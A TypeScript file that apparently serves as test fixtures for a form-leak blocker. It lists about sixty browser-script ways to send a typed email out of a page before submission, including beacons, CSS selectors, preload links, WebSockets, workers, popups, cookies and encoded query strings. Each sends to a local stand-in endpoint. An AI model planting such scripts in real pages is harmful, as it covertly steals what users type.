/**
 * Roads by which a page can carry away what is typed before the button is pressed. Each is a piece of script that knows `mail` (what
 * was typed) and `to(name)` (an address on the page's own site that nobody may reach); `m` is the mail as part of an address.
 */
export type Road = { name: string; script: string };

const blob = (code: string): string => `URL.createObjectURL(new Blob([${code}], { type: 'text/javascript' }))`;
/** Code of a worker: an origin of its own, so addresses are whole. */
const inWorker = (name: string): string =>
  `"fetch('" + location.origin + to('${name}') + "', { method: 'POST', body: " + JSON.stringify(mail) + " })"`;
const socketCode = (name: string): string =>
  `"const s = new WebSocket('ws://" + location.host + to('${name}') + "'); s.onopen = () => s.send(" + JSON.stringify(mail) + ")"`;
const element = (tag: string, set: string): string =>
  `{ const e = document.createElement('${tag}'); ${set}; document.body.append(e); }`;

/** Roads that leave the page where it is. */
export const quietRoads: readonly Road[] = [
  { name: 'beacon', script: `navigator.sendBeacon(to('beacon'), mail)` },
  { name: 'fetch', script: `fetch(to('fetch'), { method: 'POST', body: JSON.stringify({ mail }) })` },
  {
    name: 'xhr',
    script: `{ const x = new XMLHttpRequest(); x.open('POST', to('xhr')); x.send(new URLSearchParams({ mail })); }`,
  },
  { name: 'keepalive', script: `fetch(to('keepalive'), { method: 'POST', keepalive: true, body: mail })` },
  { name: 'later', script: `fetchLater(to('later'), { method: 'POST', body: mail, activateAfter: 0 })` },
  { name: 'query', script: `fetch(to('query') + m)` },
  { name: 'base64', script: `fetch(to('base64'), { method: 'POST', body: btoa('lead ' + mail + ' end of it') })` },
  { name: 'base64-address', script: `fetch(to('base64-address') + '?' + btoa('lead ' + mail + ' end of it'))` },
  { name: 'hex', script: `fetch(to('hex') + '?' + hex(mail))` },
  { name: 'gzip', script: `zipped(mail).then((body) => fetch(to('gzip'), { method: 'POST', body }))` },
  {
    name: 'gzip-base64',
    script: `zipped('lead ' + mail + ' end of it').then((b) => fetch(to('gzip-base64') + '?' + btoa(String.fromCharCode(...new Uint8Array(b)))))`,
  },
  { name: 'header', script: `fetch(to('header'), { headers: { 'x-lead': mail } })` },
  { name: 'method', script: `fetch(to('method'), { method: mail.split('@')[0] })` },
  {
    name: 'cookie',
    script: `document.cookie = 'lead=' + encodeURIComponent(mail) + ';path=/leak/cookie'; fetch(to('cookie'))`,
  },
  {
    name: 'referer',
    script: `history.replaceState(null, '', '/?' + encodeURIComponent(mail)); fetch(to('referer')); history.replaceState(null, '', '/')`,
  },
  { name: 'eventsource', script: `new EventSource(to('eventsource') + m)` },
  { name: 'image', script: `new Image().src = to('image') + m` },
  {
    name: 'css',
    script: element(
      'style',
      `document.querySelector('[name=email]').setAttribute('value', mail); e.textContent = '[name=email][value^="an"] { background: url(' + to('css') + '/an) } [value*="k7@"] { border-image: url(' + to('css') + '/k7) }'`,
    ),
  },
  { name: 'font', script: `new FontFace('x', 'url(' + to('font') + m + ')').load()` },
  { name: 'script', script: element('script', `e.src = to('script') + m`) },
  { name: 'import', script: `import(to('import') + m)` },
  { name: 'stylesheet', script: element('link', `e.rel = 'stylesheet'; e.href = to('stylesheet') + m`) },
  { name: 'prefetch', script: element('link', `e.rel = 'prefetch'; e.href = to('prefetch') + m`) },
  { name: 'preload', script: element('link', `e.rel = 'preload'; e.as = 'fetch'; e.href = to('preload') + m`) },
  { name: 'modulepreload', script: element('link', `e.rel = 'modulepreload'; e.href = to('modulepreload') + m`) },
  { name: 'icon', script: element('link', `e.rel = 'icon'; e.href = to('icon') + m`) },
  { name: 'manifest', script: element('link', `e.rel = 'manifest'; e.href = to('manifest') + m`) },
  {
    name: 'preconnect',
    script: element(
      'link',
      `e.rel = 'preconnect'; e.href = 'https://' + mail.split('@')[0].replaceAll('.', '-') + '.spy.localhost'`,
    ),
  },
  {
    name: 'speculation-prefetch',
    script: element(
      'script',
      `e.type = 'speculationrules'; e.textContent = JSON.stringify({ prefetch: [{ urls: [to('speculation-prefetch') + m], eagerness: 'immediate' }] })`,
    ),
  },
  {
    name: 'speculation-prerender',
    script: element(
      'script',
      `e.type = 'speculationrules'; e.textContent = JSON.stringify({ prerender: [{ urls: [to('speculation-prerender') + m], eagerness: 'immediate' }] })`,
    ),
  },
  { name: 'frame', script: element('iframe', `e.src = to('frame') + m`) },
  {
    name: 'frame-post',
    script: `{ const f = document.createElement('iframe'); f.name = 'hole'; document.body.append(f); const e = document.createElement('form'); e.method = 'post'; e.target = 'hole'; e.action = to('frame-post'); e.innerHTML = '<input name=m>'; e.m.value = mail; document.body.append(e); e.submit(); }`,
  },
  { name: 'object', script: element('object', `e.data = to('object') + m`) },
  { name: 'embed', script: element('embed', `e.src = to('embed') + m`) },
  { name: 'video', script: element('video', `e.src = to('video') + m`) },
  { name: 'ping', script: element('a', `e.href = '#x'; e.ping = to('ping') + m; e.click()`) },
  { name: 'download', script: element('a', `e.href = to('download') + m; e.download = 'x'; e.click()`) },
  { name: 'socket', script: `if (socket.readyState === 1) socket.send('lead ' + mail)` },
  { name: 'socket-address', script: `new WebSocket('ws://' + location.host + to('socket-address') + m)` },
  {
    name: 'socket-protocol',
    script: `new WebSocket('ws://' + location.host + to('socket-protocol'), mail.split('@')[0])`,
  },
  {
    name: 'socket-cookie',
    script: `document.cookie = 'lead=' + encodeURIComponent(mail) + ';path=/leak/socket-cookie'; new WebSocket('ws://' + location.host + to('socket-cookie'))`,
  },
  { name: 'socket-stream', script: `new WebSocketStream('ws://' + location.host + to('socket-stream') + m)` },
  {
    name: 'frame-socket',
    script: `{ const f = document.createElement('iframe'); document.body.append(f); const s = new f.contentWindow.WebSocket('ws://' + location.host + to('frame-socket')); s.onopen = () => s.send(mail); }`,
  },
  { name: 'worker', script: `new Worker(${blob(inWorker('worker'))})` },
  { name: 'worker-socket', script: `new Worker(${blob(socketCode('worker-socket'))})` },
  {
    name: 'nested-worker',
    script: `new Worker(${blob(`'new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(${socketCode('nested-worker')}) + '])))'`)})`,
  },
  { name: 'shared-worker', script: `new SharedWorker(${blob(inWorker('shared-worker'))})` },
  { name: 'shared-worker-socket', script: `new SharedWorker(${blob(socketCode('shared-worker-socket'))})` },
  {
    name: 'service-worker',
    script: `ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/worker.js' + m)`,
  },
  {
    name: 'frame-service-worker',
    script: `{ const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/frame-worker.js' + m); }`,
  },
  { name: 'worklet', script: `new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(to('worklet') + m)` },
  { name: 'early-worker', script: `early.postMessage(mail)` },
  { name: 'ahead-by-header', script: element('a', `e.href = to('ahead-by-header') + m; e.textContent = 'x'`) },
  { name: 'popup', script: `open(to('popup') + m)` },
  {
    name: 'popup-form',
    script: element(
      'form',
      `e.method = 'post'; e.target = '_blank'; e.action = to('popup-form'); e.innerHTML = '<input name=m><button>'; e.m.value = mail; setTimeout(() => e.submit(), 300)`,
    ),
  },
  {
    name: 'popup-fetch',
    script: `open('about:blank').fetch(location.origin + to('popup-fetch') + m, { mode: 'no-cors' })`,
  },
  {
    name: 'popup-socket',
    script: `{ const s = new (open('about:blank').WebSocket)('ws://' + location.host + to('popup-socket')); s.onopen = () => s.send(mail); }`,
  },
  { name: 'popup-worker', script: `new (open('about:blank').Worker)(${blob(socketCode('popup-worker'))})` },
];

/** Roads that lead the page itself away; each is tried on a page of its own. */
export const leadingRoads: readonly Road[] = [
  { name: 'location', script: `location.href = to('location') + m` },
  { name: 'refresh', script: element('meta', `e.httpEquiv = 'refresh'; e.content = '0;url=' + to('refresh') + m`) },
  { name: 'own-submit', script: `document.forms[0].requestSubmit()` },
  {
    name: 'page-end',
    script: `addEventListener('pagehide', () => { navigator.sendBeacon(to('page-end'), mail); fetch(to('page-end'), { method: 'POST', keepalive: true, body: mail }); }); location.href = '/next'`,
  },
  { name: 'carried', script: `window.name = mail; location.href = '/next'` },
];
